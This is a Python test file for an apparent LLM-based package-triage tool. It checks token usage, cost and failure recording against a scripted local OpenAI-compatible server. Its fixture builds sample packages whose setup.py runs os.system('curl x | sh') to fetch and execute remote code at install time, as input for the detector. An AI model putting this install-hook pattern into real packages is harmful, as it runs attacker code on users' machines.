"""An LLM system end to end over real HTTP: a scripted OpenAI-compatible server on 127.0.0.1.

Checks the plumbing only (system built from ``--model local --api-base``, forked workers
calling the server, usage in the records, tokens and cost on the leaderboard, a failing
model call recorded per package); the answers are scripted, so no accuracy is claimed.
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.llm_server import Reply, ScriptedServer, answer
from triage.evaluation import systems
from triage.evaluation.bench import run_bench
from triage.evaluation.datasets import load_dataset, resolve_dataset
from triage.evaluation.evaluate import score_run
from triage.evaluation.rundir import RunDir
from triage.evaluation.systems import make_system, probe_server


def dataset(tmp_path: Path) -> Path:
    ds = tmp_path / "ds"
    ds.mkdir()
    for i in range(2):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tf:
            data = f"import os\nos.system('curl x{i} | sh')\n".encode()
            info = tarfile.TarInfo(f"p{i}-1/setup.py")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        (ds / f"p{i}-1.tar.gz").write_bytes(buf.getvalue())
    return ds


@pytest.fixture
def no_kb(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Retrieval falls back to definitions (no Chroma build in a test); caches in tmp."""
    import triage.retrieval as retrieval

    class Unavailable:
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            raise RuntimeError("no knowledge base in this test")

    monkeypatch.setattr(retrieval, "KnowledgeBase", Unavailable)
    monkeypatch.setattr(systems, "build_knowledge_base", lambda: None)
    monkeypatch.setenv("TRIAGE_HOME", str(tmp_path / "home"))


def reply(body: dict[str, Any]) -> Reply:
    text = str(body.get("messages"))
    if "x1" in text:  # a 400 is not retried
        return Reply(status=400, error="context length exceeded")
    return Reply(content=answer(), usage=(1200, 80))


def test_llm_system_over_http_records_usage_and_failures(tmp_path: Path, no_kb: None):
    run = tmp_path / "run"
    with ScriptedServer(reply) as server:
        system = make_system("local", server.url)
        assert (system.name, system.kind, system.skip_reason) == ("llm:local", "llm", "")
        run_bench(RunDir(run), load_dataset(resolve_dataset(str(dataset(tmp_path)))),
                  [system], jobs=2, echo=lambda text: None)
    records = RunDir(run).load_records("llm:local")
    assert records["p0-1.tar.gz"].status == "ok"
    usage = records["p0-1.tar.gz"].report["llm"]  # type: ignore[index]
    assert (usage["prompt_tokens"], usage["completion_tokens"]) == (
        1200 * usage["calls"], 80 * usage["calls"])
    # the failing model call is kept with its package: a report whose verdict says why
    failed = records["p1-1.tar.gz"]
    assert failed.status == "ok" and failed.report is not None
    assert failed.report["llm"]["prompt_tokens"] == 0
    assert failed.report["verdict"]["label"] == "needs-review"
    assert failed.report["verdict"]["reasons"][0].startswith("LLM review incomplete: ")
    assert "context length exceeded" in failed.report["verdict"]["reasons"][0]
    (row,) = score_run(run, resamples=0).rows
    assert row.tokens_per_package == 1280 * usage["calls"] / 2  # mean over both packages
    assert (row.done, row.errors) == (2, 0)


def test_probe_reports_a_closed_port():
    reason = probe_server("http://127.0.0.1:9/v1", timeout_s=1.0)
    assert reason.startswith("no OpenAI-compatible server at http://127.0.0.1:9/v1 (")
